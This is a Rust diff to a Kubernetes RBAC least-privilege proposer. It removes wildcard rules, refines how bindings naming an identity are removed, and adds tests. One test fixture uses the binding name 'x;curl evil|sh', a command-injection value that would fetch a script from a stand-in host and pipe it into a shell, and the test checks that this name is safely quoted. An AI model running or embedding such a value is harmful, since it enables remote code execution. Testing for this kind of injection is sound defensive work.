@@ -1,5 +1,7 @@
 //! Right-sized access as roles and bindings.
 //!
+//! Resources and verbs are named one by one: a wildcard would grant what no catalogue knows, and what the cluster gets later.
+//!
 //! A proposal takes the place of all bindings that name an identity itself. Bindings of groups that it is in by being what
 //! it is, such as all service accounts of a namespace, are not its own and go on granting; so does one that names both.
 
@@ -17,7 +19,7 @@ use evenhand_model::scope::Pattern;
 
 use super::sets::general_group;
 use super::{Actor, Compiled, Known, Resolver};
-use crate::rbac::{Binding, Metadata, account_groups, account_user, applies_to};
+use crate::rbac::{self, Binding, Metadata, account_groups, account_user, applies_to};
 
 const API: &str = "rbac.authorization.k8s.io";
 
@@ -73,7 +75,7 @@ impl Proposes for Resolver {
         if !text.is_empty() {
             steps.push(format!("kubectl apply -f {}", quoted(&file)));
         }
-        steps.extend(own_bindings(cluster, known).map(|(binding, _)| unbound(binding, &subject)));
+        steps.extend(own_bindings(cluster, known).map(|(binding, _)| unbound(binding, &known.actor, &subject)));
         let files = if text.is_empty() { Vec::new() } else { vec![ProposedFile { name: file, text }] };
         Ok(Proposal { files, steps, left_out })
     }
@@ -92,40 +94,45 @@ fn own_bindings<'c>(cluster: &'c Compiled, known: &'c Known) -> impl Iterator<It
 /// Whether a binding names an identity itself, and none of the groups that it is in whatever is done about it: with its
 /// name taken out, such a binding would go on granting.
 fn names(binding: &Binding, actor: &Actor) -> bool {
-    let home = &binding.metadata.namespace;
-    let group = |subject: &crate::rbac::Subject, name: &str| &*subject.kind == "Group" && &*subject.name == name;
-    let (named, groups) = match actor {
-        Actor::Account(namespace, name) => {
-            let user = account_user(namespace, name);
-            (applies_to(&binding.subjects, &user, &[], home).is_some(), account_groups(namespace).to_vec())
-        }
-        Actor::User(name) => {
-            (applies_to(&binding.subjects, name, &[], home).is_some(), vec![Arc::from(general_group(name))])
-        }
+    let group = |held: &rbac::Subject, name: &str| &*held.kind == "Group" && &*held.name == name;
+    let groups: Vec<Arc<str>> = match actor {
+        Actor::Account(namespace, _) => account_groups(namespace).to_vec(),
+        Actor::User(name) => vec![Arc::from(general_group(name))],
         Actor::Group(name) => {
             let general = Some(general_group(name)).filter(|general| **general != **name);
-            (
-                binding.subjects.iter().any(|subject| group(subject, name)),
-                general.map(Arc::<str>::from).into_iter().collect(),
-            )
+            general.map(Arc::<str>::from).into_iter().collect()
         }
         Actor::HolderOf(_) => return false,
     };
-    named && !binding.subjects.iter().any(|subject| groups.iter().any(|held: &Arc<str>| group(subject, held)))
+    let mut subjects = binding.subjects.iter();
+    subjects.clone().any(|held| is_of(held, actor, &binding.metadata))
+        && !subjects.any(|held| groups.iter().any(|name| group(held, name)))
+}
+
+/// Whether a subject of a binding is somebody himself.
+fn is_of(held: &rbac::Subject, actor: &Actor, binding: &Metadata) -> bool {
+    let is_user = |name: &str| applies_to(std::slice::from_ref(held), name, &[], &binding.namespace).is_some();
+    match actor {
+        Actor::Account(namespace, name) => is_user(&account_user(namespace, name)),
+        Actor::User(name) => is_user(name),
+        Actor::Group(name) => &*held.kind == "Group" && held.name == *name,
+        Actor::HolderOf(_) => false,
+    }
 }
 
 /// How a binding is taken away from a subject.
-fn unbound(binding: &Binding, subject: &Subject) -> String {
+fn unbound(binding: &Binding, actor: &Actor, subject: &Subject) -> String {
     let meta = &binding.metadata;
     let kind = if meta.namespace.is_empty() { "ClusterRoleBinding" } else { "RoleBinding" };
     let command = object(&kind.to_lowercase(), meta);
-    match binding.subjects.len() {
-        1 => format!("kubectl delete {command}"),
-        _ => {
-            let name = quoted(&meta.name);
-            format!("take the subject {} out of {kind} {name} (kubectl edit {command})", subject.words)
-        }
+    // One that names nobody else is no use; it may name somebody twice.
+    let entries = binding.subjects.iter().filter(|held| is_of(held, actor, meta)).count();
+    if entries == binding.subjects.len() {
+        return format!("kubectl delete {command}");
     }
+    let what = if entries > 1 { format!("the {entries} entries of the subject") } else { "the subject".to_owned() };
+    let name = quoted(&meta.name);
+    format!("take {what} {} out of {kind} {name} (kubectl edit {command})", subject.words)
 }
 
 /// An object as an argument of a command. A name of RBAC may be anything but a path, and begin like an option.
@@ -211,16 +218,8 @@ impl Resolver {
         head(if home.is_empty() { "ClusterRole" } else { "Role" }, home, name, text);
         text.push_str("rules:\n");
         for (names, operations) in named {
-            let mut rest = operations.clone();
-            let all = if home.is_empty() { self.operations.resources() } else { self.operations.in_namespaces() };
-            if names.is_empty() && all.is_subset(operations) {
-                rest = rest.difference(self.operations.resources());
-                let star = ["*"];
-                let star = star.as_slice();
-                rule(&[("apiGroups", star), ("resources", star), ("verbs", star)], text);
-            }
             let names: Vec<&str> = names.iter().map(|name| &**name).collect();
-            for (group, Verbs { verbs, of }) in self.rules(&rest) {
+            for (group, Verbs { verbs, of }) in self.rules(operations) {
                 let verbs: Vec<&str> = verbs.iter().map(String::as_str).collect();
                 let of: Vec<&str> = of.iter().map(String::as_str).collect();
                 let Some(group) = &group else {
@@ -368,6 +367,8 @@ mod tests {
             ("elsewhere", "", "events", Some(group("system:serviceaccounts:b"))),
             ("x;curl evil|sh", "", "nodes", None),
             ("--all", "a", "limitranges", None),
+            ("twice", "", "persistentvolumes", Some(account.clone())),
+            ("as a user", "", "podtemplates", Some(json!({"kind": "User", "name": "system:serviceaccount:a:x"}))),
         ] {
             let api = format!("{API}/v1");
             let kind = if home.is_empty() { "ClusterRoleBinding" } else { "RoleBinding" };
@@ -392,7 +393,9 @@ mod tests {
         assert_eq!(
             steps,
             [
+                "kubectl delete clusterrolebinding 'as a user'",
                 "kubectl delete clusterrolebinding 'x;curl evil|sh'",
+                "kubectl delete clusterrolebinding twice",
                 "kubectl delete rolebinding -n a -- --all",
                 "take the subject ServiceAccount a/x out of ClusterRoleBinding elsewhere (kubectl edit \
                  clusterrolebinding elsewhere)",
@@ -405,8 +408,38 @@ mod tests {
         assert!(!access.slices().is_empty());
         for slice in access.slices() {
             let policy = resolver.grant(slice.grant).policy;
-            let own = [" shared", " sre", " elsewhere", "|sh", "/--all"].iter().any(|name| policy.ends_with(name));
+            let own = [" shared", " sre", " elsewhere", "|sh", "/--all", " twice", " as a user"]
+                .iter()
+                .any(|name| policy.ends_with(name));
             assert_eq!(proposer.is_replaced(&id, slice.grant), own, "{policy}");
+        }
+    }
+
+    #[test]
+    fn whoever_keeps_everything_keeps_what_is_known_by_name_and_no_wildcard() {
+        let items = json!([
+            {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "x", "namespace": "a"}},
+            {"apiVersion": format!("{API}/v1"), "kind": "ClusterRole", "metadata": {"name": "all"},
+             "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]},
+            {"apiVersion": format!("{API}/v1"), "kind": "ClusterRoleBinding", "metadata": {"name": "all"},
+             "roleRef": {"kind": "ClusterRole", "name": "all"},
+             "subjects": [{"kind": "ServiceAccount", "name": "x", "namespace": "a"}]},
+        ]);
+        let text = json!({"apiVersion": "v1", "kind": "List", "items": items}).to_string();
+        let (reading, errors) = read_all(vec![document("k8s/c/all.json", &text)], &[]);
+        assert_eq!(errors, []);
+        let resolver = reading.resolver.expect("a resolver");
+        let id = IdentityId::from("kubernetes:c:serviceaccount:a/x");
+        let access = resolver.access(&id).unwrap();
+        let kept: Vec<Kept> =
+            access.slices().iter().map(|slice| Kept { slice: slice.clone(), of: slice.clone() }).collect();
+        let proposal = resolver.proposer().expect("a proposer").propose(&id, &kept).unwrap();
+        let [file] = proposal.files.as_slice() else { panic!("{proposal:?}") };
+        assert!(file.text.contains("secrets") && file.text.contains("deployments/scale"), "{}", file.text);
+        // Of metrics nobody knows the names: there the catalogue's own name is the wildcard.
+        let lines: Vec<&str> = file.text.lines().collect();
+        for pair in lines.windows(2).filter(|pair| pair[1].contains('*')) {
+            assert!(pair[0].ends_with("metrics.k8s.io]") && pair[1] == "  resources: [\"*\"]", "{pair:?}");
         }
     }
 
